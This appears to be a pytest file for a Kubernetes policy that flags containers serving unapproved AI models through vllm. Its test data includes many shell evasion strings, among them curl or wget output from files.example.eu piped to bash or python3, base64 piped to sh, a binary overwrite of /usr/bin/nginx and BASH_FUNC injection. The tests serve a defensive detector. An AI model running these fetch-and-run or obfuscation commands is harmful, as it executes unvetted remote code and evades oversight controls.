"""A program that nobody can read may be an inference server: no way to hide its name gets past the reader."""

from __future__ import annotations

from typing import Any, Final

import pytest

from tests.policies.test_model_naming import EVIL, GOOD, GOOD_ID, OTHER, VLLM, served, variable

FROM_CLUSTER: Final = {"valueFrom": {"configMapKeyRef": {"name": "c", "key": "k"}}}

HIDDEN: Final = [
    f"v=vl; ${{v}}lm serve {EVIL}",
    f"$(printf vllm) serve {EVIL}",
    f"`printf vllm` serve {EVIL}",
    f'eval "vl""lm serve {EVIL}"',
    f'exec "$X" serve {EVIL}',
    f"alias n=vllm; n serve {EVIL}",
    f"echo 'vl'lm serve {EVIL} | sh",
    "echo dmxsbQ== | base64 -d | sh",
    "curl -fsS https://files.example.eu/x | bash -s -- a",
    "wget -qO- https://files.example.eu/x | python3",
    "wget -qO- https://files.example.eu/x | python3 -",
    "curl -fsS https://files.example.eu/x -o /tmp/x; sh /tmp/x",
    "curl -fsS https://files.example.eu/x -o /tmp/x; chmod +x /tmp/x; /tmp/x",
    "curl -fsSO https://files.example.eu/x && ./x",
    "curl -fsS https://files.example.eu/x -o /usr/bin/nginx && nginx",
    "cp $(which v*m) /srv/tool; /srv/tool serve x",
    "printf 'vl%s serve x' lm > run; . ./run",
    "sh <(curl -fsS https://files.example.eu/x)",
    "source <(printf 'vl%s serve x' lm)",
    f"/usr/local/bin/v?lm serve {EVIL}",
    f"/usr/local/bin/v[l]lm serve {EVIL}",
    f"v{{ll,}}m serve {EVIL}",
    f"$'v\\x6clm' serve {EVIL}",
    f"printf 'vl%s serve {EVIL}' lm | xargs env",
    "printf 'vl%s serve x' lm | xargs -I{} sh -c '{}'",
    "find / -name 'v??m' -exec {} serve x \\;",
    "find / $MORE",
    "echo vl''lm | xargs -I% % serve x",
    "fetch --out /mnt/x; . /mnt/x",
    "env -S \"$X serve\"",
    "timeout -s KILL 5 $X serve",
    "timeout --kill-after 5 10 $X serve",
    "nice -n 5 $X serve",
    "setpriv --reuid 5 $X serve",
    "conda run -n a $X serve",
    "awk 'BEGIN { system(\"vl\" \"lm serve x\") }'",
    "perl -e 'exec \"vl\" . \"lm\"'",
    "node -e 'require(1)'",
    "python3 -c 'import os; os.system(\"vl\" + \"lm serve x\")'",
    "python3 -uc 'exec(input())'",
    "python3 -c 'import torch'",
    "python3 <<EOF\nimport os\nEOF",
    "sh <<EOF\nvl$A serve\nEOF",
    "su app -c \"$X serve\"",
    "watch \"$X serve\"",
    "trap \"$X serve\" EXIT",
    "run() { \"$@\"; }; run vl''lm$Y serve x",
    "kubectl apply -f /manifests",
    "kubectl $VERB",
    "helm install x y",
    "docker run x",
    "if true; then $X; fi",
    "case a in b) $X;; esac",
    "while read -r l; do $l; done < /x",
    "for i in vl; do ${i}lm serve x; done",
    "( $X )",
    "a() { $X; }; a",
    'echo "$($X serve)"',
    "PATH=/x:$PATH; wget https://files.example.eu/a; tool",
    "echo 'unbalanced",
    "busybox sh -c \"$X\"",
    "coproc $X",
    "[[ -n $($X) ]]",
    "a=(1 2); \"${a[@]}\"",
]  # fmt: skip
"""Each starts a program whose name, or whose text, nobody can read in it."""


@pytest.mark.parametrize("script", HIDDEN)
@pytest.mark.parametrize("shell", ["sh", "bash"])
def test_a_script_that_hides_a_program_is_refused_in_any_container(shell: str, script: str) -> None:
    """No GPU, no engine's image, no port: nothing but the hidden name gives it away."""
    assert None in served(image=OTHER, command=[shell, "-c", script])


@pytest.mark.parametrize("script", HIDDEN)
def test_nesting_and_hooks_hide_nothing(script: str) -> None:
    assert None in served(image=OTHER, command=["bash", "-c", f"echo a; bash -ec '{_quoted(script)}'"])
    hook = {"postStart": {"exec": {"command": ["sh", "-c", script]}}}
    assert None in served(image=OTHER, lifecycle=hook)
    assert None in served(image=OTHER, livenessProbe={"exec": {"command": ["sh", "-c", script]}})


def _quoted(script: str) -> str:
    return script.replace("'", "'\\''")


@pytest.mark.parametrize("script", HIDDEN)
def test_an_approved_server_beside_it_excuses_nothing(script: str) -> None:
    assert None in served(image=VLLM, command=["sh", "-c", f"vllm serve {GOOD} &\n{script}"])


@pytest.mark.parametrize(
    "container",
    [
        {"command": ["$(X)", "serve", EVIL], "env": [{"name": "X", **FROM_CLUSTER}]},
        {"command": ["$(X)"], "envFrom": [{"configMapRef": {"name": "c"}}]},
        {"command": ["$(X_SERVICE_HOST)"]},
        {"args": ["$(X)", "serve", EVIL], "env": [{"name": "X", **FROM_CLUSTER}]},
        {"command": ["env", "A=b", "$(X)"], "env": [{"name": "X", **FROM_CLUSTER}]},
        {"command": ["tini", "-e", "1", "--", "$(X)"], "env": [{"name": "X", **FROM_CLUSTER}]},
        {"command": ["sh"]},
        {"command": ["sh", "-s"]},
        {"command": ["sh", "-c", 'v"$@"', "sh", "llm", "serve", "x"]},
        {"command": ["sh", "-c", '"$@"lm', "sh", "vl"]},
        {"command": ["sh", "$(X)"], "env": [{"name": "X", **FROM_CLUSTER}]},
        {"command": ["python3"]},
        {"command": ["python3", "-m", "runpy"]},
        {"command": ["perl", "-ne", "print"]},
        {"command": ["bash", "-c", "true"], "env": [variable("BASH_ENV", "/x")]},
        {"command": ["bash", "-c", "true"], "env": [variable("BASH_FUNC_true%%", "() { vllm serve x; }")]},
        {"command": ["sh", "/work/run.sh"], "volumeMounts": [{"name": "w", "mountPath": "/work"}]},
        {"command": ["/work/run"], "volumeMounts": [{"name": "w", "mountPath": "/work"}]},
        {"command": ["./run"], "workingDir": "/work", "volumeMounts": [{"name": "w", "mountPath": "/work/"}]},
        {"command": ["nginx"], "volumeMounts": [{"name": "w", "mountPath": "/usr/local/bin"}]},
        {"command": ["nginx"], "volumeMounts": [{"name": "w", "mountPath": "/usr/bin/nginx"}]},
        {
            "command": ["nginx"],
            "env": [variable("PATH", "/work:/bin")],
            "volumeMounts": [{"name": "w", "mountPath": "/work"}],
        },
        {"volumeMounts": [{"name": "w", "mountPath": "/models"}]},
        {"command": ["/app/start"], "volumeMounts": [{"name": "w", "mountPath": "/models/a/b"}]},
    ],
    ids=str,
)
def test_a_program_that_only_the_cluster_or_a_volume_knows_is_refused(container: dict[str, Any]) -> None:
    assert None in served(image=OTHER, **container)


@pytest.mark.parametrize(
    "container",
    [
        {"command": ["/app/engine", f"--model-path={EVIL}"]},
        {"command": ["engine", "--model_id", EVIL]},
        {"command": ["engine", f"/models/{EVIL}/w.bin"]},
        {"args": ["--model", EVIL]},
        {"env": [variable("MODEL_ID", EVIL)]},
        {"env": [variable("WEIGHTS", f"/models/{EVIL}")]},
        {"command": ["sh", "-c", f"exec engine --model {EVIL} --port $PORT"]},
    ],
    ids=str,
)
def test_a_server_under_another_name_is_found_by_the_model_that_it_is_given(
    container: dict[str, Any],
) -> None:
    assert EVIL in served(image=OTHER, **container)


@pytest.mark.parametrize(
    "command",
    [
        ["sh", "-c", f"v'l'lm serve {EVIL} $(date)"],
        ["sh", "-c", f"sh -c 'vllm serve {EVIL}'"],
        ["sh", "-c", f"command exec vllm serve {EVIL}"],
        ["xargs", "vllm", "serve"],
        ["conda", "run", "-n", "x", "vllm", "serve", EVIL],
    ],
    ids=str,
)
def test_a_server_that_shows_only_once_its_shell_is_taken_apart_is_found(command: list[str]) -> None:
    assert served(image=OTHER, command=command) - {GOOD_ID}


@pytest.mark.parametrize(
    "container",
    [
        {"command": ["sh", "-c", 'exec nginx -g "daemon off;"']},
        {"command": ["sh", "-c", 'exec "$@"', "sh", "nginx", "-g", "daemon off;"]},
        {"command": ["sh", "-c", "until nslookup db.data.svc; do echo waiting; sleep 2; done"]},
        {"command": ["sh", "-ec", 'umask 077\ncp /etc/a /work/a\nchown -R 1000:0 "$DIR" || true']},
        {"command": ["sh", "-c", "echo $(date) > /work/started && sleep 5"]},
        {"command": ["/bin/sh", "-c", "for f in /etc/a /etc/b; do test -f \"$f\" || exit 1; done"]},
        {"command": ["bash", "-c", "if [[ $A =~ ^(x|y)$ ]]; then echo a; else exec haproxy; fi"]},
        {"command": ["bash", "-c", 'args=(--port 80 "$X")\nexec haproxy "${args[@]}"']},
        {"command": ["sh", "-c", 'case "$1" in a|b) echo x;; *) exec haproxy;; esac', "sh", "a"]},
        {"command": ["sh", "-c", "cat <<EOF > /work/c.cfg\nlisten $PORT $(hostname)\nEOF\nexec haproxy"]},
        {"command": ["sh", "-c", "trap 'kill 1' TERM; sleep 5 & wait"]},
        {"command": ["sh", "-c", "exec timeout 5 curl -fsS \"$URL\""]},
        {"command": ["sh", "-c", ". /etc/profile && exec haproxy"]},
        {"command": ["tini", "-g", "--", "haproxy", "$(A)"], "env": [{"name": "A", **FROM_CLUSTER}]},
        {"command": ["sh", "-c", "$PROGRAM -f x"], "env": [variable("PROGRAM", "haproxy")]},
        {"command": ["sh", "/docker-entrypoint.sh", "nginx"]},
        {"command": ["/entrypoint.sh"]},
        {"command": ["./server"], "workingDir": "/app"},
        {"command": ["python3", "-c", "import urllib.request as u; u.urlopen('http://localhost:80').read()"]},
        {"command": ["python3", "-m", "http.server", "80"]},
        {"command": ["python3", "-u", "/app/main.py"]},
        {"command": ["node", "/app/main.js", "-e"]},
        {"command": ["kubectl", "wait", "--for=condition=ready", "pod/x"]},
        {"command": ["sh", "-c", "command -v curl >/dev/null 2>&1 || exit 1"]},
        {"args": ["-c", "/etc/app/config.yaml"]},
        {"args": ["--token", "$(TOKEN)"], "env": [{"name": "TOKEN", **FROM_CLUSTER}]},
        {"command": ["find", "/var/log", "-name", "*.gz", "-exec", "rm", "{}", ";"]},
        {"command": ["sh", "-c", "ls /work/*.log | xargs -r -n 1 gzip"]},
        {"command": ["awk", "{ print $1 }", "/etc/hosts"]},
        {"livenessProbe": {"exec": {"command": ["sh", "-c", "wget -qO- http://localhost:80 | grep -q ok"]}}},
        {"command": ["haproxy"], "volumeMounts": [{"name": "w", "mountPath": "/usr/local/etc/haproxy"}]},
    ],
    ids=str,
)  # fmt: skip
def test_an_ordinary_command_is_left_alone(container: dict[str, Any]) -> None:
    assert served(image=OTHER, **container) == set()
